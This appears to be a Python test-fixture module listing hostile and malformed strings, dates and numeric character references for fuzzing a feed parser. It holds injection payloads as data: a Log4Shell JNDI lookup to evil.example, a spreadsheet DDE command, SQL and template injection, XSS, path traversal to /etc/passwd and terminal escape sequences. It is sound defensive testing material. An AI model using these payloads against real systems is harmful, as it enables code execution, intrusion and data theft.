"""Words, dates and characters that a hostile or a broken feed can hold, of kinds that no collected list has."""

from __future__ import annotations

WORDS = (
    "\ud800", "a\udfff\ud83d", "\ude00\ud83d", "\x00", "\ufffe\uffff", "\ufdd0\U0001fffe",  # no characters at all
    "\U000e0041\U000e0042", "\U000e0001", "\u061c\u180e", "\u2061\u2064", "\u206a\u206f", "\ufff9a\ufffab\ufffb",
    "\u202egnp", "\u2066x", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b31m", "\x90q\x9c", "\x85\x1c\x1d\x1e",
    "\x1bP0;1|17/6c\x1b\\", "\x1b]52;c;Y3VybA==\x07", "\x1b[6n", "\x0e\x0f", "\r\rover", "\u2028x\u2029",
    "\u0301" * 5_000, "\ufdfa" * 3_000, "\U0001f3f3\ufe0f\u200d\U0001f308" * 500, "\u0f73" * 4_000, "\u1100" * 9_000,
    "=1+1", "＝cmd|' /C calc'!A0", "\t=1", "\xa0=1", "\u200b=1", "\ufeff+1", "x;=1+1", "%0A=1",
    "'; DROP TABLE ledger.articles;--", "$$x$$", "{{7*7}}", "${jndi:ldap://evil.example/}", "%s%n%(x)s",
    "{0.__class__}", "../../etc/passwd", "C:\\CON", "file:///etc/passwd", "NaN", "NULL", "\\N", "\\u0000", "\\ud800",
    "A" * 50_000,
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "]]><x/>", "<!--", "<![CDATA[", "&#xd800;&lol;",
    "[x](javascript:alert(1))", "<!channel> <@U1> <https://evil.example|x>", "@everyone", "\n\nlevel=error event=x",
)  # fmt: skip

DATES = (
    "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "0000-00-00T00:00:00Z", "2024-02-30T00:00:00Z",
    "2024-05-31T13:00:00+99:99", "Fri, 31 May 99999 13:00:00 GMT", "-2024-05-31", "2024-05-31T25:61:61Z", "1e309",
    "2024-W22-5", "Fri, 31 May 2024 13:00:00 +9999", "２０２４-05-31", "2024-05-31T13:00:00.999999999999999999Z",
    "99999999999999999999", "0", "\ud800", "2024-05-31T13:00:00Z" * 200, "Fri, 31 May 2024 13:00:00 (" + "(" * 5_000,
    "31 May 2024 24:00:60 UTC", "Thu, 01 Jan 1970" + " " * 5_000, "٢٠٢٤-٠٥-٣١", "2024-05-31T13:00:00[Asia/\x1b[2J]",
)  # fmt: skip

REFERENCES = (
    "&#0;", "&#1;", "&#27;", "&#127;", "&#155;", "&#8203;", "&#8238;", "&#55296;", "&#57343;", "&#xD800;", "&#XDFFF;",
    "&#65534;", "&#xFFFF;", "&#917505;", "&#1114111;", "&#1114112;", "&#x110000;", "&#99999999999;", "&#xFFFFFFFFFF;",
    "&#" + "9" * 9_000 + ";", "&#x" + "0" * 9_000 + "41;", "&#-1;", "&#;", "&#x;", "&#1e9;", "&#55357", "&amp;#xD800;",
)  # fmt: skip
"""Numeric references; a single one of a character that there is not stops the feed parser."""
